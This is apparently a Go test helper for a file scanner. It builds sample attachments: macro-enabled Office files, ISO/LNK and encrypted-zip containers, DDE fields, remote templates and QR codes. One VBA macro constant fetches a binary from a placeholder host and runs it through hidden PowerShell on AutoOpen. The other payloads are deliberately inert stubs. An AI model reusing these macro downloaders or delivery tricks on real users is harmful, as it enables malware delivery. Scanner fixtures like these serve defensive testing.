package kinds

import (
	"bytes"
	"encoding/base64"
	"fmt"
	"image"
	"image/color"
	"regexp"
	"strconv"
	"strings"

	"tocsin/internal/scan/scantest"
)

// build makes a file. args are the words behind the builder's name.
func build(builder, args, content string) (b []byte, media string, err error) {
	first, rest, _ := strings.Cut(args, " ")
	switch builder {
	case "text":
		text, err := fillIn(content)
		if args == "" {
			args = "application/octet-stream"
		}
		return []byte(text), args, err
	case "picture":
		return scantest.PNG(photo()), "image/png", nil
	case "pdf-text":
		var p scantest.PDF
		p.Page("", args)
		return p.Bytes(), "application/pdf", nil
	case "zip":
		return scantest.Zip(scantest.Entry{Name: args, Data: string(harmless(args))}), "application/zip", nil
	case "zip-encrypted", "zip-aes":
		return scantest.LockedZip(first, builder == "zip-aes", scantest.Entry{Name: rest, Data: string(harmful(rest))}), "application/zip", nil
	case "iso-file":
		return scantest.ISO(scantest.Entry{Name: args, Data: string(harmful(args))}), "application/octet-stream", nil
	case "iso-lnk", "zip-iso-lnk":
		target, arguments, _ := strings.Cut(rest, " ")
		iso := scantest.ISO(scantest.Entry{Name: first, Data: string(scantest.LNK(target, arguments, `C:\Program Files\Adobe\Acrobat.exe`))})
		if builder == "iso-lnk" {
			return iso, "application/octet-stream", nil
		}
		return scantest.Zip(scantest.Entry{Name: "documents.iso", Data: string(iso)}), "application/zip", nil
	}
	if strings.HasPrefix(builder, "qr-") {
		return buildCode(strings.TrimPrefix(builder, "qr-"), strings.ReplaceAll(args, `\n`, "\n"))
	}
	return buildDocument(builder, args)
}

func buildCode(how, text string) ([]byte, string, error) {
	q := scantest.NewQR(text)
	switch how {
	case "png":
		return scantest.PNG(q.Draw(scantest.Picture{})), "image/png", nil
	case "jpg":
		return scantest.JPEG(q.Draw(scantest.Picture{})), "image/jpeg", nil
	case "gif":
		return scantest.GIF(q.Draw(scantest.Picture{})), "image/gif", nil
	case "blue":
		return scantest.PNG(recolour(q.Draw(scantest.Picture{}), color.NRGBA{20, 60, 160, 255}, color.NRGBA{250, 245, 220, 255})), "image/png", nil
	case "inverted":
		return scantest.PNG(recolour(q.Draw(scantest.Picture{}), color.NRGBA{255, 255, 255, 255}, color.NRGBA{0, 0, 0, 255})), "image/png", nil
	case "pdf":
		var p scantest.PDF
		n := p.Picture(q.Draw(scantest.Picture{}), "gray")
		p.PageOf("", fmt.Sprintf("/XObject << /P %d 0 R >>", n), "q 300 0 0 300 100 300 cm /P Do Q")
		return p.Bytes(), "application/pdf", nil
	}
	return nil, "", fmt.Errorf("no way %q to draw a code", how)
}

func recolour(img *image.NRGBA, dark, light color.NRGBA) *image.NRGBA {
	b := img.Bounds()
	for y := b.Min.Y; y < b.Max.Y; y++ {
		for x := b.Min.X; x < b.Max.X; x++ {
			if img.NRGBAAt(x, y).R < 128 {
				img.SetNRGBA(x, y, dark)
			} else {
				img.SetNRGBA(x, y, light)
			}
		}
	}
	return img
}

// photo is a picture without a code: a soft gradient with shapes.
func photo() image.Image {
	img := image.NewNRGBA(image.Rect(0, 0, 320, 200))
	for y := range 200 {
		for x := range 320 {
			img.SetNRGBA(x, y, color.NRGBA{uint8(x * y / 251), uint8(y), uint8(200 - x/2), 255})
		}
	}
	return img
}

const (
	runs = `
	Dim s, f
	Set s = CreateObject("WScript.Shell")
	f = Environ("TEMP") & "\update.exe"
	With CreateObject("MSXML2.XMLHTTP")
		.Open "GET", "https://files-update.example/x.bin", False
		.Send
	End With
	s.Run "powershell -w hidden -nop -c " & f, 0
`
	formats = `
	Range("A1:C20").Sort Key1:=Range("A1")
	Selection.Font.Bold = True
`
)

func module(name, proc, body string) scantest.Module {
	return scantest.Module{Name: name, Source: "Attribute VB_Name = \"" + name + "\"\r\nSub " + proc + "()\r\n" + body + "End Sub\r\n"}
}

func buildDocument(builder, args string) ([]byte, string, error) {
	docm := func(proc, body string) []byte { return scantest.DOCM(nil, module("ThisDocument", proc, body)) }
	xlsm := func(proc, body string) []byte {
		return scantest.XLSX("", scantest.Entry{Name: "xl/vbaProject.bin", Data: string(scantest.OLE(scantest.VBA("", nil, module("ThisWorkbook", proc, body))...))})
	}
	switch builder {
	case "docx":
		return scantest.DOCX(scantest.Paragraph("Dear reader, please find the report below.")), "application/vnd.openxmlformats-officedocument.wordprocessingml.document", nil
	case "xlsx":
		return scantest.XLSX(""), "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", nil
	case "docm-auto":
		return docm(args, runs), "application/vnd.ms-word.document.macroEnabled.12", nil
	case "docm-plain":
		return docm(args, formats), "application/vnd.ms-word.document.macroEnabled.12", nil
	case "xlsm-auto":
		return xlsm(args, runs), "application/vnd.ms-excel.sheet.macroEnabled.12", nil
	case "xlsm-plain":
		return xlsm(args, formats), "application/vnd.ms-excel.sheet.macroEnabled.12", nil
	case "zip-docm-auto":
		return scantest.Zip(scantest.Entry{Name: args, Data: string(docm("AutoOpen", runs))}), "application/zip", nil
	case "doc-auto":
		s := append(scantest.VBA("Macros/", nil, module("ThisDocument", args, runs)), scantest.Stream{Path: "WordDocument", Data: make([]byte, 4096)})
		return scantest.OLE(s...), "application/msword", nil
	case "xls-auto":
		s := append(scantest.VBA("_VBA_PROJECT_CUR/", nil, module("ThisWorkbook", args, runs)), scantest.Stream{Path: "Workbook", Data: scantest.Record(0x809, 0, 6, 5, 0)})
		return scantest.OLE(s...), "application/vnd.ms-excel", nil
	case "docx-template":
		return scantest.DOCX(scantest.Paragraph("Loading."), scantest.Rels("word/settings.xml", scantest.Relation{Kind: "attachedTemplate", Target: args, External: true})), "application/octet-stream", nil
	case "docx-dde":
		return scantest.DOCX(scantest.Field("DDE", "AUTO c:\\\\windows\\\\", "system32\\\\", args)), "application/octet-stream", nil
	}
	return nil, "", fmt.Errorf("no builder %q", builder)
}

// harmful is what a file with such a name would hold in an attack: nothing that works.
func harmful(name string) []byte {
	switch ext := name[strings.LastIndexByte(name, '.')+1:]; ext {
	case "exe":
		return append([]byte("MZ\x90\x00\x03"), bytes.Repeat([]byte{0}, 800)...)
	case "js", "vbs", "hta":
		return []byte("var s = new ActiveXObject('WScript.Shell'); // a sample, it does nothing\r\n")
	case "lnk":
		return scantest.LNK("cmd.exe", "/c echo", "")
	case "iso":
		return scantest.ISO(scantest.Entry{Name: "a.exe", Data: string(harmful("a.exe"))})
	}
	return harmless(name)
}

func harmless(name string) []byte {
	switch {
	case strings.HasSuffix(name, ".svg"):
		return []byte(`<svg xmlns="http://www.w3.org/2000/svg"><rect width="3" height="4"/></svg>`)
	case strings.HasSuffix(name, ".png"):
		return scantest.PNG(photo())
	case strings.HasSuffix(name, ".docx"):
		return scantest.DOCX(scantest.Paragraph("Working papers"))
	case strings.HasSuffix(name, ".pdf"):
		var p scantest.PDF
		p.Page("", "Pay slip")
		return p.Bytes()
	}
	return []byte("day;value\r\n1;20\r\n2;21\r\n")
}

var holes = regexp.MustCompile(`\{(zip:\d|zip|png|b64:[^}]*|table:[^}]*)\}`)

// fillIn exchanges the holes of a text: {zip} for a small zip with a program in base64, {zip:1} to {zip:3} for a third of it, {png} for a
// picture, {b64:TEXT} for the base64 of a text, {table:URL} for a QR code as an HTML table.
func fillIn(text string) (string, error) {
	packed := base64.StdEncoding.EncodeToString(scantest.Zip(scantest.Entry{Name: "run.exe", Data: string(harmful("run.exe"))}))
	return holes.ReplaceAllStringFunc(text, func(h string) string {
		what, arg, _ := strings.Cut(strings.Trim(h, "{}"), ":")
		switch what {
		case "zip":
			if n, err := strconv.Atoi(arg); err == nil {
				third := len(packed) / 3
				return []string{packed[:third], packed[third : 2*third], packed[2*third:]}[n-1]
			}
			return packed
		case "png":
			return base64.StdEncoding.EncodeToString(scantest.PNG(photo()))
		case "b64":
			return base64.StdEncoding.EncodeToString([]byte(arg))
		}
		return scantest.NewQR(arg).Table("bgcolor")
	}), nil
}

// drawCode draws a QR code with characters.
func drawCode(how, text string) string {
	if how == "half-blocks" {
		return scantest.NewQR(text).HalfBlocks(false)
	}
	return scantest.NewQR(text).Text("██", "  ")
}
